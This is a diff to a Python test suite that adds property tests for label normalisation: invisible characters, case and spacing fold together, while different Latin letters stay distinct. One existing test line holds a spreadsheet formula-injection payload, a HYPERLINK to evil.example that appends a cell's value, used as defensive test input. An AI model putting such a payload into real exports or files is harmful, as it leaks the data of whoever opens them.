@@ -23,6 +23,7 @@ from casebook.cli import cli
 from casebook.partners.compare import DEFAULT_THRESHOLD, dice, link
 from casebook.partners.encoding import FORMAT, SCHEMA, VERSION, Encoder, ExportNames
 from casebook.partners.models import PartnerMark
+from casebook.partners.services import label_key
 from tests.conftest import UserFixture, bearer, fresh_code, login, make_user, minimal_case
 
 SECRET = b"0123456789abcdef0123456789abcdef-shared-by-partners"
@@ -858,3 +859,26 @@ def test_a_partner_label_cannot_be_a_formula_or_hide_characters(
         label = (mark.body or {})["label"]
     assert label.startswith('=HYPERLINK("http://evil.example/?"&A2,"open")evil[2J')
     assert len(label) <= 100 and not any(ord(c) < 32 or c == "\u202e" for c in label)
+
+
+@given(
+    st.text(alphabet=st.characters(categories=("L", "N", "Zs", "P")), max_size=30),
+    st.lists(st.sampled_from(["\u200b", "\u200d", "\u00ad", "\u200f", "\ufeff", " ", "."])),
+    st.randoms(use_true_random=False),
+)
+def test_invisible_characters_case_and_spacing_never_make_labels_differ(
+    label: str, inserts: list[str], rng: random.Random
+) -> None:
+    """Two labels that differ by invisible characters, spaces, dots or case read as one."""
+    chars = list(label.swapcase())
+    for mark in inserts:
+        chars.insert(rng.randint(0, len(chars)), mark)
+    assert label_key("".join(chars)) == label_key(label)
+
+
+@given(st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789", min_size=1, max_size=12))
+def test_labels_of_different_latin_letters_stay_apart(label: str) -> None:
+    """Look-alike folding never joins two different Latin names: changing one letter or
+    digit changes the key."""
+    changed = ("b" if label[0] != "b" else "c") + label[1:]
+    assert label_key(label) != label_key(changed)
